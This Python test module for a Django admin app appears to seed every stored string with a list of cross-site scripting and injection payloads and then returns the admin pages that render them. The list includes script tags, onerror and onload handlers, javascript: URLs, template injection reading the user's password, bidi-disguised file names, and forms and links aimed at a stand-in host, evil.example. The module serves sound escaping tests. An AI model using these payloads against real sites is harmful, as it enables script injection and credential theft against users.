"""Texts that become markup, script or something unseen where a page lets them; and the same strings without harm.

`scene` puts one text into every string that a source or a user can set, and gives the addresses of the pages that show
it.
"""

from __future__ import annotations

from typing import Any

from django.urls import reverse
from django.utils import timezone

from data_sync.models import Changeset, Comment, ExportKey
from data_sync.services import audit
from data_sync.services.actors import Actor
from tests.admin import making

ALERT = "alert(document.domain)"
PAYLOADS = (
    f"javascript:{ALERT}",
    f"JaVa\tScRiPt:{ALERT}",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/%2e%2e",
    f"<script>{ALERT}</script>",
    f"</script><script>{ALERT}</script>",
    f"</title></textarea></style><script>{ALERT}</script>",
    f"<img src=x onerror={ALERT}>",
    f"<svg onload={ALERT}>",
    f"<svg><script>{ALERT}</script></svg>",
    f'<svg><a xlink:href="javascript:{ALERT}"><text>x</text></a></svg>',
    f'<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={ALERT}&gt;">',
    f"<iframe src=javascript:{ALERT}></iframe>",
    f'<iframe srcdoc="<script>{ALERT}</script>"></iframe>',
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken><button>Go</button>",
    f'" onmouseover="{ALERT}" x="',
    f"' onfocus='{ALERT}' autofocus='",
    f"`onclick={ALERT}`",
    f'"><img src=x onerror={ALERT}>',
    f"'><body onload={ALERT}>",
    "{{ 7|add:7 }}{{ request.user.password }}",
    "{% load static %}{% debug %}{% include 'admin/base.html' %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '"};alert(1);//',
    "</textarea><details open ontoggle=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "\u202e>tpircs<\u2066gnp.exe\u2069",
    "a\x01b\x08c\x1b[31m\x7f<b>bold</b>",
    "\ufeff\u200b<i\u200b>zero width</i>",
    "＜script＞alert(1)＜/script＞",
    "expression(alert(1)); background: url(javascript:alert(1))",
    "<x-data @click=alert(1) :href='javascript:1' v-html=x hx-get=//evil.example>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
TEXTS = tuple(" ".join(PAYLOADS[first::14]) for first in range(14))
"""All of them in fewer texts; what would be a link stands first in its own."""
HARMLESS = (
    "some plain words",
    "a.path[1] (with): every; sign / there = is \"here\", or 'there' & {on} #1",
    "\u202esome words\u2066, seen or not\u2069",
    "a\x01b\x08c\x1bd\x7f",
    "\ufeff\u200bzero\u200bwidth",
    "tab\there\tand there",
)
"""What pages may mark, as what cannot be seen, in elements of their own."""


def changes(text: str) -> list[Any]:
    """One of each kind, with the text in all that is stored of it."""
    file = {"name": f"{text}.bin", "size": 3, "checksum": "sha256:" + "0" * 64}
    deep = {text: [text, {text: text}], "list": [text]}
    here = {"name": text, "text": f"{text} before", "json": {"a": 1}}
    there = {"name": text, "text": f"{text} after {text}", "json": deep}
    told = [{"code": "x", "field": text, "message": text}]
    taken = [
        {"model": model, "pk": text, "label": text, "effect": effect, "column": text}
        for model, effect in (("auth.group", "delete"), (text, "null"))
    ]
    seen = {"kind": "changed", "by": text, "at": "2026-05-12T10:03:00+00:00"}
    common: dict[str, Any] = {"model": "testapp.everything", "key": [text, {text: text}]}
    # The names of files are the source's, those of file fields are ours.
    with_file = common | {"model": "testapp.document", "files": {"cover": {"before": file, "after": file}}}
    return [
        making.change(1, before=here, after=there, warnings=told, **with_file),
        making.change(2, after=there, problems=told, **common),
        making.change(3, before=here, cascades=taken, left_scope=True, decision="accepted", **common),
        making.change(4, before=here, after=there, conflict=seen, base=here, base_digest="ab" * 16, **common),
        making.change(5, before=here, after=there, previous_key=[text], **common),
        making.change(6, after=there, requires=[2, 3], decision="accepted", **common),
        making.change(7, model=text, key=[text], after={text: text}, outcome="failed", outcome_reason=text),
    ]


def scene(text: str, person: Any) -> dict[str, str]:
    """Objects with the text in every string, and the pages on which they show, by name."""
    actor = Actor(label=text, user=person)
    guard = {"code": "x", "model": text, "rows": 1, "message": text}
    source = making.source(text)
    type(source).objects.filter(pk=source.pk).update(url=f"https://staging.example.org/{text}")
    report = {
        "schema": [{"model": text, "field": text, "difference": text}],
        "models": [{"label": text, "name": text, "compared": 1, "create": 1}],
    }
    pull = making.pull(
        source=source, source_name=text, actor=text, state="failed", error=text, report=report, model_labels=[text]
    )
    common: dict[str, Any] = {"source": source, "source_name": text, "actor": text, "requested_by": person}
    stored = {
        state: making.changeset(
            changes(text)[: None if state in ("pending", "failed") else 1],
            state=state,
            state_reason=text,
            guards=[guard],
            omitted={text: [text], "testapp.everything": [text]},
            approval_actor=text,
            apply_actor=text,
            attempt=1,
            approved_at=timezone.now(),
            applied_at=timezone.now(),
            pull=pull if state == "pending" else None,
            **common,
        )
        for state in ("pending", "blocked", "failed", "approved", "applied", "rejected")
    }
    pending = stored["pending"]
    _remark(pending, text, actor)
    key = ExportKey.objects.create(name=text, prefix=text[:16], secret_hash="x", model_labels=[text], created_by=person)
    base = "admin:data_sync_"
    pages = {
        "list of changesets": reverse(f"{base}changeset_changelist"),
        "list of sources": reverse(f"{base}datasource_changelist"),
        "list of pulls": reverse(f"{base}datapull_changelist"),
        "list of keys": reverse(f"{base}exportkey_changelist"),
        "source": reverse(f"{base}datasource_change", args=(source.pk,)),
        "source's form": reverse(f"{base}datasource_edit", args=(source.pk,)),
        "source's removal": reverse(f"{base}datasource_delete", args=(source.pk,)),
        "pull": reverse(f"{base}datapull_change", args=(pull.pk,)),
        "new pull": reverse(f"{base}datapull_add"),
        "key": reverse(f"{base}exportkey_change", args=(key.pk,)),
        "override": reverse(f"{base}changeset_override", args=(stored["blocked"].pk,)),
        "reject": reverse(f"{base}changeset_reject", args=(pending.pk,)),
        "history": reverse(f"{base}changeset_history", args=(pending.pk,)),
        "print": reverse(f"{base}changeset_print", args=(pending.pk,)),
        "confirmation": reverse(f"{base}changeset_confirm", args=(pending.pk,)),
        "result": reverse(f"{base}changeset_result", args=(stored["failed"].pk,)),
    }
    return pages | {
        f"review, {state}": reverse(f"{base}changeset_change", args=(one.pk,)) for state, one in stored.items()
    }


def _remark(stored: Changeset, text: str, actor: Actor) -> None:
    for change in stored.changes.all():
        Comment.objects.create(change=change, user=actor.user, actor=text, at=timezone.now(), text=text)
    selection = {"numbers": None, "model": text, "operation": "", "decision": "", "flag": "", "search": text}
    decided = {"decision": "accepted", "count": 2, "selection": selection, "kept": [text], "also": []}
    events: dict[str, dict[str, Any]] = {
        "pulled": {
            "source": text,
            "compared": 1,
            "counts": {},
            "conflicts": 0,
            "omitted": {text: [text]},
            "guards": [],
        },
        "decided": decided,
        "commented": {"change": 1, "text": text},
        "rejected": {"reason": text},
        "failed": {"reason": text, "changes": [1]},
        "overridden": {"reason": text, "guards": [{"code": "x", "message": text}]},
        "carried_over": {"from": [1], "counts": {}, "comments": [{"change": 1, "actor": text, "text": text}]},
        "approval_expired": {"approved_by": text, "approved_at": "2026-01-01T00:00:00", "hours": 72.0},
        text[:40]: {},
    }
    for action, detail in events.items():
        audit.record(stored.pk, actor, action, detail)
